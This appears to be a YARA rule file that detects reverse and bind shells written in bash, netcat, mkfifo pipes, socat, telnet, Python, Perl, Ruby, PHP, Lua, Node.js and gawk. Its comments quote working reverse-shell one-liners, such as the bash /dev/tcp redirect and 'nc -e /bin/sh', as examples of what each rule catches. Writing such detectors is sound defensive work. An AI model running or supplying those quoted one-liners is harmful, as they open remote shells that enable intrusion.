/*
   Reverse and bind shells written as shell one-liners or short scripts.
   Every rule wants the pieces that make a shell talk to a socket, on one line
   or in one small script, in a text file: the bare strings ("/dev/tcp",
   "nc", "socket") are everywhere in ordinary systems.

   Spelling: YARA looks for each string through an "atom" of up to four
   literal bytes, and an atom that starts with a lowercase letter or a space
   slows the scan of all ordinary text. Letters that need not be atoms are
   written as one-letter classes ([s][o][c][k][e][t]), and the byte after a
   pipe, colon or quote is spelled out in alternation branches ("|sh", "| sh",
   ":b", "'/u"), so that every atom starts with punctuation, a digit or a
   capital. The branches match exactly what the plain regexp did.

   scope: text
*/

rule strata_rs_bash_dev_tcp
{
    meta:
        id = "STRATA-RS-001"
        category = "reverse-shell"
        severity = "critical"
        description = "Shell with its standard streams redirected to /dev/tcp or /dev/udp (bash reverse shell)"
    strings:
        // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1, sh -i >& /dev/udp/h/53 0>&1
        $interactive = /\b(ba|da|z|k|a)?sh\s+(-[a-z]*i[a-z]*)\s*([0-9]?[<>]&?|&>)\s*\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}/
        // bash -l > /dev/tcp/h/4444 0<&1 2>&1
        $stdin_dup = /\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}\s+(0>&1|0<&1|0<&2|1>&0)/
        // 0<&196;exec 196<>/dev/tcp/h/4444; sh <&196 >&196 2>&196
        $exec_fd = /exec\s+[0-9]{1,3}<>\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}[^\n]{0,80}\b(ba|da|z|k|a)?sh\s+(-i\s+)?<&\s*[0-9]{1,3}\s+>&\s*[0-9]{1,3}/
        // exec 5<>/dev/tcp/h/4444; cat <&5 | while read line; do $line 2>&5 >&5; done
        $read_loop = /\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}[^\n]{0,80}while\s+read\s+(-r\s+)?(\w+)\s*;\s*do\s+\$\w+\s+[^\n]{0,20}>&\s*[0-9]/
    condition:
        strata_text and any of them
}

rule strata_rs_netcat_exec
{
    meta:
        id = "STRATA-RS-002"
        category = "reverse-shell"
        severity = "critical"
        description = "netcat/ncat told to run a shell for the peer (-e or -c)"
    strings:
        // nc -e /bin/sh 10.0.0.1 4444, ncat 10.0.0.1 4444 -e /bin/bash, nc -lvp 4444 -c bash.
        // The atom is the option ("-e", "-lvnpe", "--exec"), not the tool's name.
        $e = /\b([n](c|cat|etcat|c\.traditional|c\.openbsd)|busybox\s+[n]c)\s[^\n|;&]{0,120}(-e|-c|(-a|-b|-c|-d|-e|-f|-g|-h|-i|-j|-k|-l|-m|-n|-o|-p|-q|-r|-s|-t|-u|-v|-w|-x|-y|-z)[a-z]*[ec]|--exec|--sh-exec)\s+["']?(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/
    condition:
        strata_text and $e
}

rule strata_rs_fifo_pipe
{
    meta:
        id = "STRATA-RS-003"
        category = "reverse-shell"
        severity = "critical"
        description = "Named pipe looping a shell through nc, telnet or openssl (mkfifo/mknod reverse shell)"
    strings:
        // rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f
        $sh_then_net = /\b([m][k][f][i][f][o]|[m][k][n][o][d])\s[^\n]{0,200}((\|\/u|\| \/u)sr(\/bin\/)?(ba|da|z|k|a)?sh|(\|\/b|\| \/b)in\/(ba|da|z|k|a)?sh|(\|bash|\| ba[s]h|\|dash|\| da[s]h|\|zsh|\| zsh|\|ksh|\| ksh|\|ash|\| ash|\|sh|\| sh)|(\|\t|\|\n|\|\r|\|\x0b|\|\x0c|\| \t|\| \n|\| \r|\| \x0b|\| \x0c|\|  )\s*(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh)\b[^\n]{0,60}\|\s*([n][c]|[n][c][a][t]|[n][e][t][c][a][t]|[t][e][l][n][e][t]|[o][p][e][n][s][s][l])\b/
        // mknod /tmp/p p && nc 10.0.0.1 4444 0</tmp/p | /bin/bash 1>/tmp/p
        $net_then_sh = /\b([m][k][f][i][f][o]|[m][k][n][o][d])\s[^\n]{0,200}\b([n][c]|[n][c][a][t]|[n][e][t][c][a][t]|[t][e][l][n][e][t]|[o][p][e][n][s][s][l]\s+[s]_[c][l][i][e][n][t])\s[^\n]{0,120}((\|\/u|\| \/u)sr(\/bin\/)?(ba|da|z|k|a)?sh|(\|\/b|\| \/b)in\/(ba|da|z|k|a)?sh|(\|bash|\| ba[s]h|\|dash|\| da[s]h|\|zsh|\| zsh|\|ksh|\| ksh|\|ash|\| ash|\|sh|\| sh)|(\|\t|\|\n|\|\r|\|\x0b|\|\x0c|\| \t|\| \n|\| \r|\| \x0b|\| \x0c|\|  )\s*(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh)\b/
    condition:
        strata_text and any of them
}

rule strata_rs_socat_exec
{
    meta:
        id = "STRATA-RS-004"
        category = "reverse-shell"
        severity = "critical"
        description = "socat joining a TCP/SSL connection to a shell (exec:/system: running sh, bash, cmd or powershell)"
    strings:
        // socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane
        $net_first = /\b[Ss][Oo][Cc][Aa][Tt]\s[^\n]{0,200}\b([Tt][Cc][Pp][46]?|[Ss][Ss][Ll]|[Oo][Pp][Ee][Nn][Ss][Ss][Ll])(-[Cc][Oo][Nn][Nn][Ee][Cc][Tt]|-[Ll][Ii][Ss][Tt][Ee][Nn]|-[Ll])?:[^\n]{0,200}\b([Ee][Xx][Ee][Cc]|[Ss][Yy][Ss][Tt][Ee][Mm])((:"|:\')(\/[Uu][Ss][Rr])?(\/[Bb][Ii][Nn]\/)?(([Bb][Aa]|[Dd][Aa]|[Zz]|[Kk]|[Aa])?[Ss][Hh]\b|[Cc][Mm][Dd](\.[Ee][Xx][Ee])?\b|[Pp][Oo][Ww][Ee][Rr][Ss][Hh][Ee][Ll][Ll])|:\/([Uu][Ss][Rr](\/[Bb][Ii][Nn]\/)?|[Bb][Ii][Nn]\/)(([Bb][Aa]|[Dd][Aa]|[Zz]|[Kk]|[Aa])?[Ss][Hh]\b|[Cc][Mm][Dd](\.[Ee][Xx][Ee])?\b|[Pp][Oo][Ww][Ee][Rr][Ss][Hh][Ee][Ll][Ll])|(:b|:B|:d|:D)[Aa][Ss][Hh]\b|(:z|:Z|:k|:K|:a|:A)[Ss][Hh]\b|(:s|:S)[Hh]\b|(:c|:C)[Mm][Dd](\.[Ee][Xx][Ee])?\b|(:p|:P)[Oo][Ww][Ee][Rr][Ss][Hh][Ee][Ll][Ll])/
        $exec_first = /\b[Ss][Oo][Cc][Aa][Tt]\s[^\n]{0,200}\b([Ee][Xx][Ee][Cc]|[Ss][Yy][Ss][Tt][Ee][Mm])((:"|:\')(\/[Uu][Ss][Rr])?(\/[Bb][Ii][Nn]\/)?(([Bb][Aa]|[Dd][Aa]|[Zz]|[Kk]|[Aa])?[Ss][Hh]\b|[Cc][Mm][Dd](\.[Ee][Xx][Ee])?\b|[Pp][Oo][Ww][Ee][Rr][Ss][Hh][Ee][Ll][Ll])|:\/([Uu][Ss][Rr](\/[Bb][Ii][Nn]\/)?|[Bb][Ii][Nn]\/)(([Bb][Aa]|[Dd][Aa]|[Zz]|[Kk]|[Aa])?[Ss][Hh]\b|[Cc][Mm][Dd](\.[Ee][Xx][Ee])?\b|[Pp][Oo][Ww][Ee][Rr][Ss][Hh][Ee][Ll][Ll])|(:b|:B|:d|:D)[Aa][Ss][Hh]\b|(:z|:Z|:k|:K|:a|:A)[Ss][Hh]\b|(:s|:S)[Hh]\b|(:c|:C)[Mm][Dd](\.[Ee][Xx][Ee])?\b|(:p|:P)[Oo][Ww][Ee][Rr][Ss][Hh][Ee][Ll][Ll])[^\n]{0,200}\b([Tt][Cc][Pp][46]?|[Ss][Ss][Ll]|[Oo][Pp][Ee][Nn][Ss][Ss][Ll])(-[Cc][Oo][Nn][Nn][Ee][Cc][Tt]|-[Ll][Ii][Ss][Tt][Ee][Nn]|-[Ll])?:/
    condition:
        strata_text and any of them
}

rule strata_rs_telnet_pipe
{
    meta:
        id = "STRATA-RS-005"
        category = "reverse-shell"
        severity = "critical"
        description = "telnet piped into a shell (telnet h p | /bin/sh | telnet h p2)"
    strings:
        $pipe = /\b[t][e][l][n][e][t]\s+[A-Za-z0-9._-]{1,253}\s+[0-9]{1,5}\s*(0<\s*\S+\s*)?((\|\/u|\| \/u)sr(\/bin\/)?(ba|da|z|k|a)?sh|(\|\/b|\| \/b)in\/(ba|da|z|k|a)?sh|(\|bash|\| ba[s]h|\|dash|\| da[s]h|\|zsh|\| zsh|\|ksh|\| ksh|\|ash|\| ash|\|sh|\| sh)|(\|\t|\|\n|\|\r|\|\x0b|\|\x0c|\| \t|\| \n|\| \r|\| \x0b|\| \x0c|\|  )\s*(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh)\b/
    condition:
        strata_text and $pipe
}

rule strata_rs_python
{
    meta:
        id = "STRATA-RS-006"
        category = "reverse-shell"
        severity = "critical"
        description = "Python connecting a socket and handing it a shell (dup2 onto stdio, pty.spawn or subprocess)"
    strings:
        $connect = /\.connect\s*\(\s*\(/
        // os.dup2(s.fileno(),0)
        $dup2 = /[d][u][p]2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)\s*,\s*[0-2]\s*\)/
        $pty = /[p][t][y]\.spawn\s*\(\s*(\[\s*)?["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh["']/
        $subprocess = /[s][u][b][p][r][o][c][e][s][s](\.call|\.Popen|\.run|\.check_call)\s*\(\s*\[\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh["']\s*,\s*["']-i["']/
        $stdio = /std(in|out|err)\s*=\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)/
    condition:
        strata_text and $connect and ($dup2 or $pty or $subprocess or (#stdio >= 2 and any of ($pty, $subprocess, $dup2)))
}

rule strata_rs_perl
{
    meta:
        id = "STRATA-RS-007"
        category = "reverse-shell"
        severity = "critical"
        description = "Perl connecting a socket, re-opening STDIN/STDOUT on it and running a shell"
    strings:
        $connect = /\b[c][o][n][n][e][c][t]\s*\(\s*[A-Z_]+\s*,\s*[s][o][c][k][a][d][d][r]_in/
        $inet = "IO::Socket::INET"
        $stdin = /[o][p][e][n]\s*\(\s*STDIN\s*,\s*["'][<>]&/
        $stdout = /[o][p][e][n]\s*\(\s*STDOUT\s*,\s*["']>&/
        $exec = /\b([e][x][e][c]|[s][y][s][t][e][m])\s*\(?\s*(("\/u|\'\/u)sr(\/bin\/)?(ba|da|z|k|a)?sh|("\/b|\'\/b)in\/(ba|da|z|k|a)?sh|("bas|\'bas|"das|\'das|"zs|\'zs|"ks|\'ks|"as|\'as|"s|\'s)h)(\s+-i)?["']/
        // perl -MIO -e '...STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
        $fdopen = /STDIN->fdopen\s*\(\s*\$\w+\s*,\s*["']?r/
        $loop = /[s][y][s][t][e][m]\s*\$_\s+[w][h][i][l][e]\s*<>/
    condition:
        strata_text and (
            ($connect and $stdin and $stdout and $exec) or
            ($inet and $fdopen and ($loop or $exec))
        )
}

rule strata_rs_ruby
{
    meta:
        id = "STRATA-RS-008"
        category = "reverse-shell"
        severity = "critical"
        description = "Ruby TCPSocket handed to a shell or to a command loop"
    strings:
        $sock = /TCPSocket(\.open|\.new)\s*\(/
        // exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)
        $fmt = /(ba|da|z|k|a)?sh\s+-i\s+<&%d\s+>&%d/
        // while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end
        $loop = /IO\.popen\s*\(\s*\w+\s*,\s*["']r["']\s*\)\s*\{\s*\|\s*\w+\s*\|\s*\w+\.(print|puts|write)/
        $spawn = /([s][p][a][w][n]|[e][x][e][c])\s*\(\s*(("\/u|\'\/u)sr(\/bin\/)?(ba|da|z|k|a)?sh|("\/b|\'\/b)in\/(ba|da|z|k|a)?sh|("bas|\'bas|"das|\'das|"zs|\'zs|"ks|\'ks|"as|\'as|"s|\'s)h)["'][^\n]{0,80}:?\b(in|out|err)\s*(=>|:)/
    condition:
        strata_text and $sock and ($fmt or $loop or $spawn)
}

rule strata_rs_php
{
    meta:
        id = "STRATA-RS-009"
        category = "reverse-shell"
        severity = "critical"
        description = "PHP opening a socket and running an interactive shell on it"
    strings:
        $sock1 = /[f][s][o][c][k][o]pen\s*\(/
        $sock2 = /[s][t][r][e][a][m]_[s][o][c][k][e][t]_[c][l][i][e][n][t]\s*\(\s*["']([t][c][p]|[u][d][p]|[s][s][l]|[t][l][s]):\/\//
        $sock3 = /[s][o][c][k][e][t]_connect\s*\(/
        // exec("/bin/sh -i <&3 >&3 2>&3"); the atom is "<&"
        $redir = /([e][x][e][c]|[s][h][e][l][l]_[e][x][e][c]|[s][y][s][t][e][m]|[p][a][s][s][t][h][r][u]|[p][o][p][e][n]|[p][r][o][c]_[o][p][e][n])\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\s+(-i\s+)?<&\s*[0-9]+/
        // proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes)
        $proc = /[p][r][o][c]_open\s*\(\s*[^\n]{0,80}\b(array\s*\(|\[)\s*0\s*=>\s*\$\w+\s*,\s*1\s*=>\s*\$\w+/
        $shell_i = /["'][^"'\n]{0,60}(\/usr)?\/bin\/(ba|da|z|k|a)?sh\s+-i["']/
    condition:
        strata_text and any of ($sock*) and ($redir or ($proc and $shell_i))
}

rule strata_rs_lua
{
    meta:
        id = "STRATA-RS-010"
        category = "reverse-shell"
        severity = "critical"
        description = "Lua (luasocket) connecting out and executing a shell or received commands"
    strings:
        $tcp = /[s][o][c][k][e][t]\.tcp\s*\(/
        $connect = /:connect\s*\(/
        $exec_sh = /[o][s]\.execute\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\s+(-i\s+)?<&/
        $popen_recv = /[i][o]\.popen\s*\(\s*\w+\s*,\s*["']r["']\s*\)/
        $receive = /:receive\s*\(/
    condition:
        strata_text and $tcp and $connect and ($exec_sh or ($popen_recv and $receive))
}

rule strata_rs_node
{
    meta:
        id = "STRATA-RS-011"
        category = "reverse-shell"
        severity = "critical"
        description = "Node.js spawning a shell and piping it both ways through a net socket"
    strings:
        $cp = /[c][h][i][l][d]_process/
        $spawn = /([s][p][a][w][n]|[e][x][e][c])\s*\(\s*(("\/u|\'\/u)sr(\/bin\/)?(ba|da|z|k|a)?sh|("\/b|\'\/b)in\/(ba|da|z|k|a)?sh|("bas|\'bas|"das|\'das|"zs|\'zs|"ks|\'ks|"as|\'as|"s|\'s)h)["']/
        $net = /[n][e][t](\.Socket|\.connect|\.createConnection)\s*\(/
        $out = /\.stdout\.pipe\s*\(\s*\w+\s*\)/
        $in = /\.pipe\s*\(\s*\w+\.stdin\s*\)/
    condition:
        strata_text and filesize < 256KB and all of them
}

rule strata_rs_awk_inet
{
    meta:
        id = "STRATA-RS-012"
        category = "reverse-shell"
        severity = "high"
        description = "gawk /inet/tcp coprocess reading commands from a remote host and running them"
    strings:
        $inet = /\/[i][n][e][t][46]?\/[t][c][p]\/0\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}/
        // s |& getline c: a command read from the socket into a variable
        $read_cmd = /\w+\s*\|&\s*[g][e][t][l][i][n][e]\s+\w+/
        // while ((c |& getline) > 0) print $0 |& s: its output sent back
        $run_cmd = /[w][h][i][l][e]\s*\(\s*\(\s*\w+\s*\|&\s*[g][e][t][l][i][n][e]\s*\)\s*>\s*0\s*\)\s*[p][r][i][n][t]\s+\$0\s*\|&/
    condition:
        strata_text and filesize < 64KB and $inet and $read_cmd and $run_cmd
}
